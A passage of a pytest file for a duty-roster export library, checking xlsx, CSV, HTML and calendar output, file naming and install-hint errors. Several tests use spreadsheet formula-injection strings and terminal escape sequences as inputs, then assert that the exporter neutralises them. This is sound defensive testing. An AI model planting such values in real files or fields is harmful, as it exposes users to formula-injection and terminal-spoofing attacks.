    assert ("=p", red, "@SUM(A1)") in people
    assert ("a\ufffdb", "+1+1", "t\tab\ufffd\ufffd\ufffd\ufffd\ufffd") in people

    (page,) = to_html(problem, plan, tmp_path / "probe.html")
    text = page.read_text(encoding="utf-8")
    assert not CONTROL.search(text)
    root = parse_html(page)
    assert red in [th.text for th in root.iter("th")]
    assert root.find("body/section/h1").text == "site\ufffd\ufffd]0;title\ufffd"

    for path in to_csv(problem, plan, tmp_path / "csv"):
        raw = path.read_bytes()
        assert b"\x00" not in raw and b"\x1b" not in raw, path.name
        assert not CONTROL.search(raw.decode("utf-8-sig")), path.name
    names = {row["name"] for row in read_csv_rows(tmp_path / "csv" / "people.csv")}
    assert {red, "t\tab", "'\tlead\ufffd"} <= names

    written = to_ics(problem, plan, tmp_path / "ics")
    for path in written:
        raw = path.read_bytes()
        assert b"\x00" not in raw and b"\x1b" not in raw, path.name
        assert not CONTROL.search(raw.decode("utf-8")), path.name
    calendars = read_calendars(written)
    summaries = {str(e["summary"]) for c in calendars.values() for e in c.walk("VEVENT")}
    assert "day\ufffd[1m · -2+3 · site\ufffd\ufffd]0;title\ufffd" in summaries


# --------------------------------------------------------------------------- dispatch and errors


def test_export_names_files_after_the_problem(problem: Problem, plan: Plan, tmp_path: Path) -> None:
    pytest.importorskip("pandas")
    pytest.importorskip("openpyxl")
    pytest.importorskip("icalendar")
    assert export(problem, plan, "xlsx", tmp_path / "out") == [
        tmp_path / "out" / "shangzhuang.xlsx"
    ]
    assert export(problem, plan, "xlsx", tmp_path / "a" / "b.xlsx") == [tmp_path / "a" / "b.xlsx"]
    assert export(problem, plan, "html", tmp_path / "out") == [
        tmp_path / "out" / "shangzhuang.html"
    ]
    assert export(problem, plan, "html", tmp_path / "page.HTML") == [tmp_path / "page.HTML"]
    assert len(export(problem, plan, "csv", tmp_path / "new" / "csv")) == 5 + len(problem.sites)
    ics = export(problem, plan, "ics", tmp_path / "new" / "ics")
    assert len(ics) == len({a.person for a in plan.assignments})
    assert all(path.is_file() for path in ics)
    (tmp_path / "file").write_text("")
    with pytest.raises(DutyplanError, match="is a file"):
        export(problem, plan, "csv", tmp_path / "file")


def test_all_formats_at_once(problem: Problem, plan: Plan, tmp_path: Path) -> None:
    pytest.importorskip("pandas")
    pytest.importorskip("icalendar")
    written = export(problem, plan, "all", tmp_path / "out")
    out = tmp_path / "out"
    assert written[:1] == [out / "shangzhuang.xlsx"] and out / "shangzhuang.html" in written
    assert {p.parent for p in written} == {out, out / "csv", out / "ics"}
    assert sorted(p.name for p in written if p.parent == out / "csv") == sorted(
        p.name for p in export(problem, plan, "csv", tmp_path / "csv_alone")
    )
    assert len([p for p in written if p.suffix == ".ics"]) == len(
        export(problem, plan, "ics", tmp_path / "ics_alone")
    )
    (tmp_path / "file").write_text("x")
    with pytest.raises(DutyplanError, match="directory"):
        export(problem, plan, "all", tmp_path / "file")


def test_unknown_format_names_the_value_and_the_choices(
    problem: Problem, plan: Plan, tmp_path: Path
) -> None:
    with pytest.raises(DutyplanError) as error:
        export(problem, plan, "pdf", tmp_path)
    assert "'pdf'" in str(error.value)
    assert all(fmt in str(error.value) for fmt in ("xlsx", "csv", "ics", "html", "all"))
    assert FORMATS == ("xlsx", "csv", "ics", "html", "all")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("fmt", "missing", "message"),
    [
        (
            "xlsx",
            "openpyxl",
            "Excel export needs pandas and openpyxl: pip install 'dutyplan[tables]'",
        ),
        (
            "xlsx",
            "pandas",
            "Excel export needs pandas and openpyxl: pip install 'dutyplan[tables]'",
        ),
        ("csv", "pandas", "CSV export needs pandas: pip install 'dutyplan[tables]'"),
        ("html", "pandas", "HTML export needs pandas: pip install 'dutyplan[tables]'"),
        ("ics", "icalendar", "calendar export needs icalendar: pip install 'dutyplan[calendar]'"),
    ],
)
def test_missing_package_gives_the_install_hint(
    problem: Problem,
    plan: Plan,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    fmt: str,
    missing: str,
    message: str,
) -> None:
    monkeypatch.setitem(sys.modules, missing, None)  # import raises ImportError
    with pytest.raises(DutyplanError) as error:
        export(problem, plan, fmt, tmp_path / "out")
    assert str(error.value) == message
    assert not (tmp_path / "out").exists()


def test_importing_export_needs_no_optional_package() -> None:
    code = (
        "import sys, dutyplan, dutyplan.export\n"
        "print(sorted(m for m in ('openpyxl', 'icalendar') if m in sys.modules))"
    )
    result = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True
    )
    assert result.stdout.strip() == "[]"


def test_csv_quotes_text_with_separators(formulas: tuple[Problem, Plan], tmp_path: Path) -> None:
    """A name holding a separator (',' or ';', which some locales split on) stays one cell:
    every text cell is quoted, so ';=1+1' can never become a cell '=1+1'."""
    pytest.importorskip("pandas")
    problem, plan = formulas
    people = [person.model_copy(update={"name": ";=1+1"}) if i == 0 else person
              for i, person in enumerate(problem.people)]
    problem = problem.model_copy(update={"people": people})
    plan = hand_plan(problem, [(a.person, (a.date - problem.horizon.start).days, a.shift, a.site, a.gate)
                               for a in plan.assignments])
    written = {path.stem: path for path in to_csv(problem, plan, tmp_path)}
    text = written["people"].read_text(encoding="utf-8-sig")
    assert '";\'=1+1"' in text
    import csv
    import io

    for row in csv.reader(io.StringIO(text), delimiter=";"):  # read as a ';' locale would
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), row
